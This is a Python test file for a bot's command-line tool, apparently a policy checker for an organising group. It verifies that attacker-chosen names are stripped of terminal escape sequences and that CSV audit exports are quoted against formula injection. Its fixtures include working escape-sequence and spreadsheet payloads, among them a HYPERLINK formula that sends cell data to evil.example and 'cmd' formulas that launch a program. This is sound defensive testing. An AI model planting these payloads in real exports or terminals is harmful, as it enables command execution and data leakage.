"""Names chosen by an attacker, printed by the command line: no escape sequence reaches
the admin's terminal, and no cell of the audit export runs as a spreadsheet formula."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from bot.cli.check import render
from bot.cli.main import main
from bot.cli.printable import hidden_spans, printable
from bot.cli.spreadsheet_cells import spreadsheet_cell
from bot.settings import load_settings
from guidance.checker.checker import Checker
from guidance.policy import load_policy
from storage import audit
from storage import proposals as repo
from storage.db import Database
from storage.models import AuditKind, ProposalStatus

CLEAR_SCREEN = "\x1b[2J\x1b[H"
RETITLE = "\x1b]0;you have been hacked\x07"
FAKE_LINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
HOSTILE_NAMES = (
    f"{CLEAR_SCREEN}mallory{RETITLE}",
    f'=HYPERLINK("https://evil.example/?"&A1,"{FAKE_LINK}")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tpadded",
    "\r\x9b31mcarriage",
)


def test_printable_drops_controls_and_whole_escape_sequences() -> None:
    assert printable(f"{CLEAR_SCREEN}al\x00ex{RETITLE}") == "alex"
    assert printable(FAKE_LINK) == "click"
    assert printable("\x9b31mred\x1b(0line\x1b") == "redline"  # 8-bit CSI, charset switch
    assert printable("Siân\tZoë\nline two\r\x7f") == "Siân\tZoë\nline two"
    assert printable("a\tb\nc", one_line=True) == "a b c"
    for name in HOSTILE_NAMES:
        shown = printable(name)
        assert _no_controls(shown)
        kept = "".join(
            c for i, c in enumerate(name) if not any(s <= i < e for s, e in hidden_spans(name))
        )
        assert kept == shown


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-dash", "'-dash"),
        ("@mention", "'@mention"),
        ("\tTab", "'\tTab"),
        ("\r=1+1", "'=1+1"),  # the carriage return is dropped, and the formula still caught
        ("Siân = chair", "Siân = chair"),
        ("", ""),
    ],
)
def test_a_cell_that_could_start_a_formula_is_quoted(cell: str, safe: str) -> None:
    assert spreadsheet_cell(cell) == safe


async def _propose_as(database_url: str, names: tuple[str, ...]) -> None:
    db = Database(database_url)
    now = datetime(2026, 3, 2, 10, 0, tzinfo=UTC)
    try:
        async with db.session() as session, session.begin():
            for number, name in enumerate(names):
                proposal_id = await repo.create_proposal(
                    session,
                    workspace="slack:T1",
                    author_id=f"U{number}",
                    author_name=name,
                    text="Thank you to everyone who canvassed on Saturday!",
                    verdict="pass",
                    findings=(),
                    status=ProposalStatus.PENDING,
                    origin_channel=None,
                    now=now,
                )
                audit.record(
                    session,
                    workspace="slack:T1",
                    kind=AuditKind.PROPOSED,
                    at=now,
                    proposal_id=proposal_id,
                    actor_id=f"U{number}",
                    actor_name=name,
                    detail={"revision": 1, "note": name},
                )
    finally:
        await db.dispose()


@pytest.fixture
def hostile(database_url: str, monkeypatch: pytest.MonkeyPatch) -> str:
    asyncio.run(_propose_as(database_url, HOSTILE_NAMES))
    monkeypatch.setenv("DATABASE_URL", database_url)
    return database_url


def _no_controls(text: str) -> bool:
    """Nothing but tab and newline below space, no DEL and no C1."""
    return not any((ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F for c in text)


@pytest.mark.usefixtures("hostile")
def test_proposals_table_prints_names_without_controls(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert main(["proposals"]) == 0
    out = capsys.readouterr().out
    assert _no_controls(out)
    assert "mallory" in out
    assert len(out.splitlines()) == 1 + len(HOSTILE_NAMES)  # no name breaks a row


@pytest.mark.usefixtures("hostile")
def test_proposals_json_keeps_the_names_as_they_are(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["proposals", "--json"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out  # JSON escapes it as \u001b
    assert {row["author"] for row in json.loads(out)} == set(HOSTILE_NAMES)


@pytest.mark.usefixtures("hostile")
def test_stats_text_prints_names_without_controls(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["stats", "--workspace", "slack:T1", "--at", "2026-03-03T12:00"]) == 0
    out = capsys.readouterr().out
    assert _no_controls(out)
    assert "mallory" in out


@pytest.mark.usefixtures("hostile")
def test_audit_export_neutralises_formulas_and_controls(tmp_path: Path) -> None:
    target = tmp_path / "audit.csv"
    assert main(["export", "audit", "--csv", "--output", str(target)]) == 0
    text = target.read_bytes().decode("utf-8-sig")
    assert all(line.startswith('"') for line in text.split("\r\n") if line)  # every cell quoted
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row.values()]
    assert all(_no_controls(cell) for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {row["by"] for row in rows} == {
        "mallory",
        '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
        "'+cmd|' /C calc'!A0",
        "'-2+3+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'\tpadded",
        "carriage",
    }


def test_check_report_prints_the_draft_without_controls(
    capsys: pytest.CaptureFixture[str],
) -> None:
    draft = f"Tory scum{CLEAR_SCREEN}{RETITLE} meet on Tuesday"
    assert main(["check", draft]) == 0
    out = capsys.readouterr().out
    assert _no_controls(out)
    assert "Tory scum meet on Tuesday" in out


def test_check_colours_only_with_its_own_codes() -> None:
    draft = f"Tory{RETITLE} scum is here"
    report = Checker(load_policy(load_settings().policy_path)).check(draft)
    shown = render(draft, report, colour=True, titles={})
    assert RETITLE not in shown and "\x07" not in shown
    assert "\x1b[1;41;97mTory scum\x1b[0m is here" in shown


def test_guidance_prints_the_query_without_controls(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["guidance", f"{CLEAR_SCREEN}zzzqqq{RETITLE}"]) == 0
    out = capsys.readouterr().out
    assert _no_controls(out)
